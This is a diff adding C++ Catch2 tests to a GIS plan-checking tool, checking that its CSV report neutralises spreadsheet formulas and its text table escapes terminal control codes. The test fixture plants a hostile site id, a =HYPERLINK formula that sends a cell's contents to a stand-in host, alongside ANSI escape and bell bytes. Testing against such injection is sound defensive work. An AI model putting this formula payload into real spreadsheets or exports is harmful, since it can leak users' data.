@@ -1,6 +1,8 @@
 // Report documents checked with independent tools: poppler's pdftotext/pdffonts for the
 // PDF, headless Chromium for the HTML; plus byte-for-byte determinism.
+#include <algorithm>
 #include <catch2/catch.hpp>
+#include <cstdlib>
 #include <filesystem>
 #include <fstream>
 #include <regex>
@@ -115,4 +117,100 @@ TEST_CASE("HTML report renders in headless Chromium with one section per site",
     CHECK(fs::file_size(png) > 50000);  // a page with maps, not a blank one
     fs::create_directories("artifacts");
     fs::copy_file(png, "artifacts/report-chromium.png", fs::copy_options::overwrite_existing);
+}
+
+namespace {
+
+// RFC 4180 cells, read independently of the writer: quoted cells may hold , " and newlines.
+std::vector<std::vector<std::string>> parseCsv(const std::string& text) {
+    std::vector<std::vector<std::string>> rows(1);
+    std::string cell;
+    bool quoted = false;
+    std::size_t i = text.rfind("\xEF\xBB\xBF", 0) == 0 ? 3 : 0;
+    for (; i < text.size(); ++i) {
+        const char c = text[i];
+        if (quoted) {
+            if (c == '"' && i + 1 < text.size() && text[i + 1] == '"')
+                cell += '"', ++i;
+            else if (c == '"')
+                quoted = false;
+            else
+                cell += c;
+        } else if (c == '"') {
+            quoted = true;
+        } else if (c == ',') {
+            rows.back().push_back(cell), cell.clear();
+        } else if (c == '\n') {
+            rows.back().push_back(cell), cell.clear();
+            rows.emplace_back();
+        } else {
+            cell += c;
+        }
+    }
+    if (rows.back().empty()) rows.pop_back();
+    return rows;
+}
+
+bool isNumber(const std::string& s) {
+    char* end = nullptr;
+    std::strtod(s.c_str(), &end);
+    return !s.empty() && end == s.c_str() + s.size();
+}
+
+// The sample sites with the first one renamed by an attacker: a formula as its id, a
+// terminal colour escape in its name, a negative plot ratio.
+fs::path hostileSites(const fs::path& dir) {
+    auto sites = onemap::gis::readLayer(kSites);
+    auto& f = sites.features[0];
+    f.values[*sites.fieldIndex("id")] = std::string("=HYPERLINK(\"http://x.example/?\"&A1,\"ok\")");
+    f.values[*sites.fieldIndex("name")] = std::string("\x1b[31m红色\x1b[0m\x07 -name");
+    f.values[*sites.fieldIndex("plot_ratio")] = -0.5;
+    const auto path = dir / "hostile.gpkg";
+    onemap::gis::writeLayer(path.string(), sites);
+    return path;
+}
+
+}  // namespace
+
+TEST_CASE("CSV: formula-like text cells are neutralised, numbers stay numbers", "[report][csv]") {
+    const auto dir = scratch("csv-injection");
+    const auto sites = hostileSites(dir);
+    const auto r = onemap::test::runCli(
+        {"check", kPlan, sites.string(), "--format", "csv", "--rules", "no-farmland,plot-ratio"});
+    REQUIRE(r.code == 1);
+    const auto rows = parseCsv(r.out);
+    REQUIRE(rows.size() == 1 + 2 * siteIds().size());
+    const auto& header = rows[0];
+    const auto column = [&](const std::string& name) {
+        const auto it = std::find(header.begin(), header.end(), name);
+        REQUIRE(it != header.end());
+        return static_cast<std::size_t>(it - header.begin());
+    };
+    for (std::size_t i = 1; i < rows.size(); ++i) {
+        REQUIRE(rows[i].size() == header.size());
+        for (const auto& cell : rows[i]) {
+            INFO(cell);
+            // No cell a spreadsheet would evaluate, unless it is a plain number.
+            if (!cell.empty() && std::string("=+-@\t\r").find(cell[0]) != std::string::npos)
+                CHECK(isNumber(cell));
+        }
+    }
+    // The hostile site's rows: the text kept whole behind a leading ', the number as is.
+    const auto& farm = rows[1];
+    const auto& plot = rows[2];
+    CHECK(farm[column("site_id")] == "'=HYPERLINK(\"http://x.example/?\"&A1,\"ok\")");
+    CHECK(plot[column("rule_id")] == "plot-ratio");
+    CHECK(plot[column("value")] == "-0.5");
+    CHECK(plot[column("verdict")] == "fail");
+}
+
+TEST_CASE("Text table: escape sequences in ids and names are shown, not obeyed", "[report][text]") {
+    const auto dir = scratch("text-escape");
+    const auto sites = hostileSites(dir);
+    const auto r = onemap::test::runCli({"check", kPlan, sites.string(), "--rules", "plot-ratio"});
+    REQUIRE(r.code == 1);
+    CHECK(r.out.find('\x1b') == std::string::npos);
+    CHECK(r.out.find('\x07') == std::string::npos);
+    CHECK(r.out.find("\\x1B[31m红色\\x1B[0m\\x07 -name") != std::string::npos);
+    CHECK(r.out.find("value -0.5 (limit 1)") != std::string::npos);
 }
